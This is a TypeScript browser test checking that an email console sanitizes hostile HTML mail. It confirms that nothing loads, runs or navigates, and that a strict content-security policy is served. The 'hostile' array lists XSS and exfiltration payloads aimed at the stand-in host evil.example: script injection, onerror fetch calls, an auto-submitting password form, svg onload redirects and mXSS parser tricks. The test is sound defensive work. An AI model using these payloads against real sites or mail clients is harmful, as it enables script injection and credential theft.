import { describe, expect, it } from "vitest";
import { listEscalations } from "../../src/store/escalations.ts";
import { keepShot } from "./browser.ts";
import { clerk } from "./desk.ts";
import { browser, trial } from "./stage.ts";

/** What HTML mail is made of when it means harm. Every address of theirs is at evil.example. */
const hostile = [
  `<script src="https://evil.example/a.js"></script><script>parent.document.title="evil"</script>`,
  `<img src="https://evil.example/pixel.png"><img src=x onerror="fetch('https://evil.example/x')">`,
  `<form action="https://evil.example/take"><input name="password" autofocus onfocus="this.form.submit()"><button>Go</button></form>`,
  `<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/b.png)}</style>`,
  `<p style="background-image:url('https://evil.example/c.png');position:fixed;inset:0">covered</p>`,
  `<svg onload="location='https://evil.example/d'"><image href="https://evil.example/e.png"/><use href="https://evil.example/f#x"/></svg>`,
  `<base href="https://evil.example/"><a href="g" target="_top">click me</a>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/h">`,
  `<iframe src="https://evil.example/i"></iframe><object data="https://evil.example/j"></object><embed src="https://evil.example/k">`,
  `<link rel="stylesheet" href="https://evil.example/l.css"><link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="https://evil.example/m">`,
  `<video src="https://evil.example/n.mp4" autoplay poster="https://evil.example/o.png"></video><audio src="https://evil.example/p.mp3" autoplay></audio>`,
  `<a href="javascript:fetch('https://evil.example/q')">q</a><a href="https://evil.example/r" ping="https://evil.example/s">r</a>`,
  `<math><mtext><table><mglyph><style><img src="https://evil.example/t"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=https://evil.example/u>"></noscript><template><img src="https://evil.example/v"></template>`,
  `<table background="https://evil.example/w.png"><tr><td background="https://evil.example/x.png">cell</td></tr></table>`,
  `<input type="image" src="https://evil.example/y.png"><picture><source srcset="https://evil.example/z.png"><img srcset="https://evil.example/aa.png 2x"></picture>`,
];

describe("hostile HTML mail", () => {
  it("loads nothing, runs nothing and leads nowhere on an agent's page", { timeout: 300_000 }, async () => {
    const { zoe } = await trial.open();
    const html = `<html><body><p>Will my cat need papers?</p>${hostile.join("\n")}<p>The end.</p></body></html>`;
    trial.arrive(
      Buffer.from(
        [
          `From: ${zoe.name.normalize("NFD").replace(/[^\x20-\x7e]/g, "")} <${zoe.email}>`,
          "To: confirmation@landfall.example",
          "Subject: papers",
          "Message-ID: <hostile@home.example>",
          "Date: Mon, 11 Jan 2027 17:00:00 +0000",
          "MIME-Version: 1.0",
          "Content-Type: text/html; charset=utf-8",
          "",
          html,
          "",
        ].join("\r\n"),
      ),
    );
    await trial.settled();
    const [escalation] = await listEscalations(trial.context.database.db, { state: "open" });
    const { page, asked, base, close } = await clerk(trial, browser, "Guarded", "agent");
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => void dialogs.push(dialog.message()));
    await page.goto(`${base}/console/escalations/${escalation?.id}`);
    await page.getByText("As it was laid out").click();
    const frame = page.frameLocator("iframe").first();
    await frame.getByText("The end.").waitFor();
    await frame.getByText("click me").click();
    await page.waitForTimeout(1500);
    await keepShot(page, "console-hostile");
    expect(asked.filter((address) => !address.startsWith(`${base}/`))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(page.url()).toBe(`${base}/console/escalations/${escalation?.id}`);
    expect(await page.title()).not.toContain("evil");
    const left = await frame
      .locator("script, style:not(head style), form, input, img, svg, iframe, a[href], link, base, meta[http-equiv]")
      .count();
    expect(left).toBe(0);
    expect(await frame.locator("body").textContent()).toContain("click me");
    // Opened by itself, the frame's address says the same: its policy goes with it.
    const response = await page.goto(`${base}/console/messages/${escalation?.messageId}/html`);
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toMatch(/default-src 'none'.*sandbox/);
    expect(policy).not.toContain("script-src");
    expect(asked.filter((address) => !address.startsWith(`${base}/`))).toEqual([]);
    await close();
  });
});
